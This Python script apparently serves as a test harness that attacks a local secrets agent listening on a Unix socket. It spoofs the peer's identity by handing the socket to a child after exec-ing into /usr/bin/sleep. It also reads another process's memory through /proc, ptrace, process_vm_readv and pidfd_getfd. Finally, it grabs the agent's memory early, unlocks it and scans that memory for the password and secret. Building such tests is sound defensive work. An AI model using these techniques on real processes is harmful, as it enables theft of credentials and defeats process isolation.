"""A program of the same user that wants to be taken for another one, or to look into the agent; run as a program.

    attacker.py share SOCKET       connect, let a child keep the socket, become /usr/bin/sleep; the child answers
    attacker.py send-first SOCKET  the same, but speak before becoming it
    attacker.py honest SOCKET      just ask
    attacker.py look PID…          every way to look into a process
    attacker.py watch SOCKET WORDS…  start an agent, grab its memory before it can defend itself, unlock it, search

Prints what the agent took it for, and what the kernel named as the process that connected.
"""

from __future__ import annotations

import ctypes
import json
import os
import select
import socket
import sys

GRANTED = "/usr/bin/sleep"
STATUS = b'{"verb":"status","id":1,"deadline":0,"args":{}}'


def receive(sock: socket.socket) -> tuple[bytes, bytes]:
    start = exactly(sock, 8)
    head, body = int.from_bytes(start[:4], "big"), int.from_bytes(start[4:], "big")
    return exactly(sock, head), exactly(sock, body)


def exactly(sock: socket.socket, count: int) -> bytes:
    found = b""
    while len(found) < count:
        part = sock.recv(count - len(found))
        if not part:
            raise EOFError
        found += part
    return found


def ask(sock: socket.socket, *, is_answered: bool = False) -> str:
    """Answer the greeting unless that was done, ask who we are, and return it."""
    if not is_answered:
        sock.send(receive(sock)[1] + b"p")
    sock.send(len(STATUS).to_bytes(4, "big") + bytes(4) + STATUS)
    answer = json.loads(receive(sock)[0])
    return str(answer["ok"]["notices"][0]) if "ok" in answer else str(answer["error"]["code"])


def attack(path: str, *, speaks_first: bool) -> dict[str, str]:
    reading, writing = os.pipe()
    victim = os.fork()
    if victim == 0:
        sock = socket.socket(socket.AF_UNIX)
        sock.connect(path)
        if speaks_first:
            sock.send(bytes(16) + b"p")
        if os.fork() == 0:
            wait_until_it_is(os.getppid())
            seen = {"connected": os.readlink(f"/proc/{os.getppid()}/exe")}
            try:
                seen["taken for"] = ask(sock)
            except (EOFError, OSError) as error:
                seen["taken for"] = type(error).__name__
            os.write(writing, json.dumps(seen).encode())
            os._exit(0)
        os.execv(GRANTED, [GRANTED, "1"])
    os.close(writing)
    with os.fdopen(reading) as answer:
        found: dict[str, str] = json.loads(answer.read())
    os.kill(victim, 9)
    os.waitpid(victim, 0)
    return found


def wait_until_it_is(pid: int) -> None:
    while os.readlink(f"/proc/{pid}/exe") != GRANTED:
        select.select([], [], [], 0.001)


def honest(path: str) -> dict[str, str]:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(path)
        return {"connected": os.readlink("/proc/self/exe"), "taken for": ask(sock)}


def look(pid: int) -> list[str]:
    """Return the ways that worked."""
    return [*looked_up(pid), *taken_over(pid)]


def looked_up(pid: int) -> list[str]:
    """Return what of /proc could be read."""

    def read(name: str) -> object:
        with open(name, "rb") as file:
            return name.endswith("/mem") or file.read(1)  # nothing is mapped at its address 0

    ways = []
    for how, names in (
        (read, ("mem", "maps", "environ", "auxv", "stack", "pagemap", "syscall", "smaps")),
        (os.listdir, ("fd", "map_files", "fdinfo")),
        (os.readlink, ("exe", "cwd", "root")),
    ):
        for name in names:
            try:
                how(f"/proc/{pid}/{name}")
            except OSError:
                continue
            ways.append(name)
    return ways


def taken_over(pid: int) -> list[str]:
    """Return which system calls reached into the process."""
    libc = ctypes.CDLL(None, use_errno=True)
    room = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(room), 8)
    ways = []
    if libc.ptrace(16, pid, 0, 0) == 0:
        ways.append("ptrace attach")
    if libc.ptrace(0x4206, pid, 0, 0) == 0:
        ways.append("ptrace seize")
    if libc.process_vm_readv(pid, local, 1, local, 1, 0) >= 0:
        ways.append("process_vm_readv")
    descriptor = libc.syscall(434, pid, 0)
    if descriptor >= 0 and libc.syscall(438, descriptor, 0, 0) >= 0:
        ways.append("pidfd_getfd")
    return ways


def watch(path: str, words: list[str]) -> dict[str, int]:
    """Return how often secrets are seen through descriptors of the agent's memory opened at its start."""
    agent = os.fork()
    if agent == 0:
        os.execv("/proc/self/exe", words)  # the same interpreter, also where its folder is closed to us
    mem, maps = grab(agent)
    while not os.path.exists(path):
        select.select([], [], [], 0.01)
    password = b"correct horse"
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(path)
        sock.send(receive(sock)[1] + b"p")
        value = request(sock, "unlock", {"slot": "password"}, password) + request(sock, "get", {"path": "/dev/derived"})
        found = {
            "place": seen(mem, maps, words[-1].encode()),
            "password": seen(mem, maps, password),
            "value": seen(mem, maps, value),
        }
    os.kill(agent, 15)
    os.waitpid(agent, 0)
    return found


def grab(pid: int) -> tuple[int, int]:
    """Open a process's memory as soon as it runs another program than ours."""
    with open("/proc/self/cmdline", "rb") as line:
        ours = line.read()
    while True:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as line:
                if line.read() not in {ours, b""}:
                    return os.open(f"/proc/{pid}/mem", os.O_RDONLY), os.open(f"/proc/{pid}/maps", os.O_RDONLY)
        except OSError:
            continue


def request(sock: socket.socket, verb: str, arguments: dict[str, str], body: bytes = b"") -> bytes:
    head = json.dumps({"verb": verb, "id": 1, "deadline": 0, "args": arguments}).encode()
    sock.send(len(head).to_bytes(4, "big") + len(body).to_bytes(4, "big") + head + body)
    answer, value = receive(sock)
    assert b'"ok"' in answer, answer
    return value


def seen(mem: int, maps: int, needle: bytes) -> int:
    """Count a needle in everything the descriptor still reads."""
    os.lseek(maps, 0, os.SEEK_SET)
    listed = b""
    while part := os.read(maps, 1 << 16):
        listed += part
    count = 0
    for line in listed.splitlines():
        place, rights = line.split()[:2]
        start, end = (int(number, 16) for number in place.split(b"-"))
        if rights.startswith(b"r") and b"[v" not in line:
            try:
                count += os.pread(mem, end - start, start).count(needle)
            except OSError:
                continue
    return count


if __name__ == "__main__":
    what, *rest = sys.argv[1:]
    if what == "look":
        print(json.dumps({pid: look(int(pid)) for pid in rest}))
    elif what == "watch":
        print(json.dumps(watch(rest[0], rest[1:])))
    elif what == "honest":
        print(json.dumps(honest(rest[0])))
    else:
        print(json.dumps([attack(rest[0], speaks_first=what == "send-first") for _ in range(int(rest[1]))]))
